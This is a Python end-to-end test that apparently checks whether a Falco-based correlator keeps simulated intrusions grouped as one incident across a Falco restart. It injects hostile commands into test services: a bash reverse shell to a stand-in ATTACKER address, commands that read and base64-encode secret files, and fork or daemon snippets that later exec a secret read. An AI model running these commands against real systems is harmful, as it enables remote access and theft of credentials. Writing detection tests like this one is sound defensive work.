"""Attacks with a restart of Falco in the middle: are they still one context, and joined with nothing else?

`python -m e2e.real.restarts --falco FILE [--lineage liblineage.so]` starts services, lets intruders begin, ends Falco, starts
another, and lets them go on: what was forked before starts its program after. The sidecar runs through. Printed: what was
told of each, and what must be. Needs what `make e2e-real` needs.
"""

import argparse
import json
import shlex
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from click import echo
from e2e.__main__ import obstacle, sidecar
from e2e.engine import PLUGIN, RULES, Engine
from e2e.real import verdicts
from e2e.real.__main__ import clear, furnish
from e2e.real.attacks import case
from e2e.real.network import ATTACKER, Listener
from e2e.real.places import Place, start_ssh_server
from e2e.real.runs import secret
from e2e.real.services import SERVICES, Running, place
from e2e.real.watchers import HERE, SHOWN, Errand

WAITS = "import os,time\nwhile not os.path.exists('SIGNAL'): time.sleep(0.1)\nos.execvp('cat',['cat','SECRET'])"
FORK = f"import os\nif os.fork()==0: exec({WAITS!r})\nos.wait()"
DAEMON = f"import os\nif os.fork()==0:\n os.setsid()\n if os.fork()==0: exec({WAITS!r})"


class Intruder:
    """Somebody in one service."""

    def __init__(self, running: Running, folder: Path) -> None:
        self.running, self.listener = running, Listener(folder)

    def fill(self, text: str) -> str:
        """A command for this service."""
        return text.replace("SECRET", secret(self.running.place.kind)).replace("SIGNAL", self.signal)

    @property
    def signal(self) -> str:
        """The file that those who wait wait for."""
        return f"/tmp/.go-{self.running.port}"

    def ask(self, command: str) -> None:
        """Let a command in and wait for its end."""
        self.running.service.inject(self.running, self.fill(command))

    def leave(self, command: str) -> None:
        """Let a command in that stays."""
        threading.Thread(target=self.ask, args=(command,), daemon=True).start()

    def open_shell(self) -> None:
        """Let a reverse shell out, and use it."""
        self.leave(f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/{self.listener.port} 0>&1'")
        if self.listener.accept():
            self.listener.type("id")

    def give_signal(self) -> None:
        """Let those who wait go on."""
        self.running.place.path(self.signal).write_text("")


@dataclass(frozen=True)
class Play:
    """What is done before the restart, what after, and the groups that must come to one incident; "" is silence."""

    name: str
    begin: Callable[[Intruder], object]
    go_on: Callable[[Intruder], object]
    groups: str
    is_guess: bool = False
    """On a host nothing tells a daemon's origin once Falco has forgotten it."""


PLAYED = ("node", "nginx-fpm")
"""The services that are attacked."""


def _python(code: str) -> str:
    return f"python3 -c {shlex.quote(code)}"


PLAYS = (
    Play("a second request", lambda on: on.ask("id"), lambda on: on.ask("cat SECRET"), "WC"),
    Play("a living shell", Intruder.open_shell, lambda on: on.listener.type(on.fill("cat SECRET")), "WSNIC"),
    Play("a fork, then exec", lambda on: on.leave(_python(FORK)), Intruder.give_signal, "WSC"),
    Play("a daemon, then exec", lambda on: on.leave(_python(DAEMON)), Intruder.give_signal, "WSC", is_guess=True),
    Play(
        "an administrator after an intruder's look",
        lambda on: on.ask("id"),
        lambda on: on.running.place.enter(["sh", "-c", on.fill("cat SECRET; base64 SECRET")]),
        "",
    ),
)


def cast(services: tuple[str, ...]) -> Iterator[tuple[Play, Running]]:
    """Each play on each service, on this host and in a container."""
    for service in services:
        for kind in ("host", "container"):
            for at, play in enumerate(PLAYS):
                yield play, Running(SERVICES[service], place(kind, f"restart-{service}-{kind}-{at}"))


def perform(plays: list[tuple[Play, Running]], folder: Path) -> None:
    """Play all, and ask in a folder for the restart in the middle."""
    attacker, servers = furnish()
    station = Place("restart-station")
    start_ssh_server(station)
    try:
        for _, running in plays:
            running.start()
        intruders = [(play, Intruder(running, attacker)) for play, running in plays]
        for play, intruder in intruders:
            play.begin(intruder)
        time.sleep(3)
        (folder / "restart").touch()
        while not (folder / "restarted").exists():
            time.sleep(0.2)
        for play, intruder in intruders:
            play.go_on(intruder)
        time.sleep(3)
    finally:
        station.end()
        for _, running in plays:
            running.end()
        servers.kill()
        servers.wait()
        clear()


def judge(plays: list[tuple[Play, Running]], notes: verdicts.Notes, *, with_plugin: bool) -> int:
    """Print what came of each play; returns the number of mistakes."""
    wrong = 0
    for play, running in plays:
        got = verdicts.outcome([note for note, _ in notes.get(running.place.name, ())])
        expected = case(play.groups)
        guessed = play.is_guess and running.place.kind == "host"
        word = "ok   " if got == expected else "GUESS" if guessed else "WRONG"
        wrong += word == "WRONG"
        echo(f"{word} {running.service.name:12} {running.place.kind:10} {play.name:42} {expected:45} {got}")
    echo(f"restart of Falco {'with' if with_plugin else 'without'} the plugin: {wrong} of {len(plays)} wrong")
    return wrong


def engines(asked: argparse.Namespace, folder: Path) -> Iterator[Engine]:
    """The Falco before the restart, and the one after."""
    for turn in ("before", "after"):
        (folder / turn).mkdir()
        probe = HERE / "probe.yaml"
        engine = Engine(Path(asked.falco), asked.plugin, folder / turn, lineage=asked.lineage, rules=RULES, probe=probe)
        engine.shown = SHOWN
        yield engine


def run(asked: argparse.Namespace) -> int:
    """Let it play, and judge."""
    plays = [*cast(PLAYED)]
    owners = verdicts.Owners([running.place.name for _, running in plays])
    with tempfile.TemporaryDirectory(prefix="falco-correlator-restarts-") as name:
        folder = Path(name)
        first, second = engines(asked, folder)
        errand = Errand(folder, [sys.executable, "-m", "e2e.real.restarts", *sys.argv[1:], "--play", str(folder)])
        with sidecar(folder) as url:

            def restart() -> None:
                if (folder / "restart").exists():
                    (folder / "restart").unlink()
                    first.stop()
                    second.start(url)
                    (folder / "restarted").touch()

            first.start(url)
            errand.run(restart)
            second.stop()
            time.sleep(1)
        for alert in (*first.raised(), *second.raised()):
            owners.of_alert(alert)
        sent = [json.loads(line) for line in (folder / "notifications.jsonl").read_text().splitlines()]
        return judge(plays, verdicts.notes_by_run(sent, owners), with_plugin=bool(asked.lineage))


def main() -> None:
    """Read the command line."""
    parser = argparse.ArgumentParser(prog="e2e.real.restarts")
    parser.add_argument("--falco", default="")
    parser.add_argument("--plugin", type=Path, default=PLUGIN, help="Falco's container plugin")
    parser.add_argument("--lineage", type=Path, help="our own plugin")
    parser.add_argument("--play", type=Path, help=argparse.SUPPRESS)
    asked = parser.parse_args()
    if asked.play:
        perform([*cast(PLAYED)], asked.play)
        return
    if reason := obstacle(asked.falco):
        echo(f"SKIPPED: {reason}")
        return
    raise SystemExit(bool(run(asked)))


if __name__ == "__main__":
    main()
